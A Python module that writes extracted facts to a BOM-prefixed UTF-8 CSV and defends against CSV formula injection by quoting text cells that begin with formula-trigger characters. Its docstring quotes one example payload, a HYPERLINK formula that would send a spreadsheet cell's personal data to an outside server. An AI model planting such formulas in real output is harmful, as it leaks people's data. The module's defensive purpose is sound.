"""facts.csv: the facts for spreadsheets, the columns of facts.jsonl in the same order.

UTF-8 with a byte-order mark because Excel (and WPS) read a BOM-less CSV in the system's ANSI code
page and show Chinese as mojibake; LibreOffice, pandas (`encoding="utf-8-sig"`) and Python's csv
module read the BOM cleanly. A missing value is an empty cell, as in every spreadsheet.

No cell is a formula. The text comes from file names and articles, which anyone can write, and
Excel, LibreOffice and WPS run a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula: `=HYPERLINK("http://…"&B2,"原文")` as a document's name would send
the person's name in B2 to a stranger's server at a click. So every text cell that starts with one
of those characters gets a single quote in front, as OWASP's "CSV Injection" page recommends: the
spreadsheet shows the text (quote included) and runs nothing, and a script reading the file sees
the original after the quote. Numbers stay numbers: the offsets (`start`, `end`, `sentence`, …) and
`confidence` are ints and floats in facts.jsonl and are written as such, a negative one too, since
a spreadsheet reads `-3` as the number −3, not as a formula. Only the value's type decides, never
its column, so a number-like string (a `city_code`, a file named `-1.txt`) is text and is guarded.
"""

from __future__ import annotations

import csv
import math
import os
from collections.abc import Iterable

# OWASP's list of what makes a spreadsheet read a cell as a formula (tab, CR: some apps skip them first),
# and a line feed, which the same apps skip as well
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")


def fact_columns(facts: Iterable[dict]) -> list[str]:
    """The keys of the facts in the order facts.jsonl writes them (first seen first)."""
    columns: dict[str, None] = {}
    for f in facts:
        columns.update(dict.fromkeys(f))
    return list(columns)


def _is_number(value: object) -> bool:
    """A finite int or float (not a bool): written as the number it is, sign and all."""
    return isinstance(value, (int, float)) and not isinstance(value, bool) and math.isfinite(value)


def safe_cell(value: object) -> object:
    """The value as a cell no spreadsheet runs: None empty, numbers as they are, text that could start a
    formula behind a single quote (everything else, `inf` and `True` included, is text)."""
    if value is None:
        return ""
    if _is_number(value):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def write_facts_csv(documents: Iterable, path: str | os.PathLike[str]) -> int:
    """Write facts.csv; returns the number of rows (one per fact, as in facts.jsonl)."""
    facts = [f for d in documents for f in d.facts]
    columns = fact_columns(facts)
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=columns, extrasaction="ignore")
        writer.writeheader()
        for f in facts:
            writer.writerow({k: safe_cell(v) for k, v in f.items()})
    return len(facts)


__all__ = ["FORMULA_LEADS", "fact_columns", "safe_cell", "write_facts_csv"]
